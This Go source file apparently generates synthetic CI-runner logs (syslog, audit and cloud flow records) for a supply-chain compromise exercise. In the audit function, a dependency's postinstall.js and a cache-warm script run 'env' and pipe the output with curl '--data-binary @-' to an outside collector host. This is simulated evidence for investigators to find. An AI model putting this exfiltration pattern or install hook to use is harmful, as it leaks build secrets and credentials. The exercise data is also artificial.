package supply

import (
	"fmt"
	"time"

	"github.com/konseki/konseki/internal/replay/raw"
)

// build is one job of a runner; every log tells of the same ones.
type build struct {
	at, end time.Time
	repo    string
	deploys bool
	failed  bool
	fetches bool // a tool by curl
}

// jobs are the builds of a runner on a day: by day what people push, at night
// the scheduled ones.
func (s *shop) jobs(runner string, start time.Time) []build {
	d := raw.Draws(s.seed, "builds "+runner, start)
	n := s.builds
	if !d.Workday() {
		n = max(6, n/5)
	}
	out := make([]build, 0, n)
	for i := range n {
		b := build{at: d.Within(9.5, 20.5), repo: raw.Pick(d.RNG, repositories()), deploys: d.Chance(0.2), failed: d.Chance(0.05), fetches: d.Chance(0.1)}
		if i%6 == 0 {
			b.at = d.Within(1, 5)
		}
		b.end = b.at.Add(time.Duration(90+d.RNG.IntN(300)) * time.Second)
		out = append(out, b)
	}
	return out
}

// syslog is a day of a runner: its jobs, cron, and the administrators' logins.
func (s *shop) syslog(d *raw.Day, runner string) {
	say := func(t time.Time, text string) { d.Add(t, raw.SyslogLine(t, runner, "ci-runner[902]", text)) }
	job := func(b build) {
		say(b.at, "Running job: build ("+b.repo+")")
		result := "Succeeded"
		if b.failed {
			result = "Failed"
		}
		say(b.end, "Job build ("+b.repo+") completed with result: "+result)
	}
	for _, b := range s.jobs(runner, d.Start) {
		job(b)
	}
	d.Every(30*time.Minute, time.Minute, func(t time.Time) {
		d.Add(t, raw.CronRun(t, runner, 1000+d.RNG.IntN(60000), "/usr/lib/sysstat/sa1 1 1"))
	})
	if d.Workday() && d.Chance(0.3) {
		raw.SSHDAccepted(d, d.Within(10, 18), runner, "h.kanno", "10.40.0.12", "publickey")
	}
	switch runner {
	case "ci-run-01":
		d.On(at("07-03 02:55:20"), func(t time.Time) { say(t, "Running job: warm (platform cache)") })
		d.On(at("07-03 02:55:31"), func(t time.Time) { say(t, "Job warm (platform cache) completed with result: Succeeded") })
	case "ci-run-02":
		d.On(at("07-01 11:41:30"), func(t time.Time) { job(build{at: t, end: t.Add(4 * time.Minute), repo: "reports"}) })
	}
}

// step is a program that a build starts, so long after its begin.
type step struct {
	after time.Duration
	exe   string
	argv  []string
}

// steps are those of every build.
func (b build) steps() []step {
	out := []step{
		{2 * time.Second, "/usr/bin/git", []string{"git", "fetch", "--depth=1", "origin", "main"}},
		{9 * time.Second, "/usr/bin/node", []string{"npm", "ci"}},
		{31 * time.Second, "/bin/sh", []string{"sh", "-c", "node install.js"}},
		{32 * time.Second, "/usr/bin/node", []string{"node", "install.js"}},
		{50 * time.Second, "/usr/bin/node", []string{"npm", "run", "build"}},
	}
	if b.fetches {
		out = append(out, step{5 * time.Second, "/usr/bin/curl", []string{"curl", "-fsSL", "-o", "/tmp/tool.tgz", "https://tools.example.com/node-v22.tgz"}})
	}
	if b.deploys {
		out = append(out, step{80 * time.Second, "/usr/local/bin/aws", []string{"aws", "s3", "sync", "dist", "s3://example-web-" + b.repo}})
	}
	return out
}

// audit is a day of a runner's audit: what its builds start.
func (s *shop) audit(d *raw.Day, runner string) {
	var log raw.Numbered
	start := func(t time.Time, cwd string, x step) {
		p := raw.Program{UID: "998", Login: "4294967295", TTY: "(none)", Cwd: cwd, Exe: x.exe, Argv: x.argv}
		log.Add(t, func(n int) string { return p.Audit(d.RNG, t, 70_000+n) })
	}
	for _, b := range s.jobs(runner, d.Start) {
		for _, x := range b.steps() {
			start(b.at.Add(x.after), "/opt/ci/jobs/"+b.repo, x)
		}
	}
	d.On(at("07-01 11:41:30"), func(t time.Time) {
		if runner != "ci-run-02" {
			return
		}
		own, theirs := "/opt/ci/jobs/reports", "/opt/ci/jobs/reports/node_modules/"+parcel
		start(t.Add(2*time.Second), own, step{0, "/usr/bin/git", []string{"git", "fetch", "--depth=1", "origin", "main"}})
		start(t.Add(9*time.Second), own, step{0, "/usr/bin/node", []string{"npm", "ci"}})
		start(installed(), theirs, step{0, "/bin/sh", []string{"sh", "-c", "node postinstall.js"}})
		start(installed().Add(time.Second), theirs, step{0, "/usr/bin/node", []string{"node", "postinstall.js"}})
		start(installed().Add(2*time.Second), theirs, step{0, "/usr/bin/env", []string{"env"}})
		start(installed().Add(2400*time.Millisecond), theirs, step{0, "/usr/bin/curl", []string{"curl", "-s", "-m", "9", "--data-binary", "@-", "https://" + collector + "/c"}})
		start(t.Add(64*time.Second), own, step{0, "/usr/bin/node", []string{"npm", "run", "build"}})
	})
	d.On(at("07-03 02:55:20"), func(t time.Time) {
		if runner != "ci-run-01" {
			return
		}
		start(t.Add(2*time.Second), "/opt/ci/jobs/billing", step{0, "/bin/bash", []string{"bash", "-e", "/opt/ci/jobs/_temp/cache-warm.sh"}})
		start(t.Add(3*time.Second), "/opt/ci/jobs/billing", step{0, "/usr/bin/env", []string{"env"}})
		start(t.Add(3500*time.Millisecond), "/opt/ci/jobs/billing", step{0, "/usr/bin/curl", []string{"curl", "-s", "--data-binary", "@-", "https://" + collector + "/w"}})
	})
	log.Write(d, d.Number, func(time.Time) bool { return false })
}

// flows is a day of what goes out of the runners' network, in the cloud's
// flow log of version 2.
func (s *shop) flows(d *raw.Day) {
	for i, runner := range runners() {
		own := fmt.Sprintf("10.40.1.%d", 11+i)
		add := func(t time.Time, dst string, packets, bytes int) {
			d.Add(t, fmt.Sprintf("2 100000000007 eni-0c%02d %s %s %d 443 6 %d %d %d %d ACCEPT OK", i, own, dst, 30000+d.RNG.IntN(30000), packets, bytes, t.Unix(), t.Unix()+59))
		}
		for _, b := range s.jobs(runner, d.Start) {
			add(b.at.Add(2*time.Second), "100.127.0.10", 20+d.RNG.IntN(30), 4000+d.RNG.IntN(3000))                                  // code
			add(b.at.Add(10*time.Second), fmt.Sprintf("100.127.1.%d", 10+d.RNG.IntN(40)), 40+d.RNG.IntN(90), 9000+d.RNG.IntN(9000)) // packages
			if b.deploys {
				add(b.at.Add(81*time.Second), fmt.Sprintf("100.127.2.%d", 10+d.RNG.IntN(20)), 900+d.RNG.IntN(4000), 2_000_000+d.RNG.IntN(20_000_000))
			}
		}
		d.Every(time.Hour, time.Duration(4+i)*time.Minute, func(t time.Time) { add(t, "100.127.0.53", 8+d.RNG.IntN(9), 2000+d.RNG.IntN(900)) })
		if i == 1 {
			d.On(installed().Add(3*time.Second), func(t time.Time) { add(t, collector, 14, 6120) })
		} else {
			d.On(at("07-03 02:55:24"), func(t time.Time) { add(t, collector, 16, 7390) })
		}
	}
}
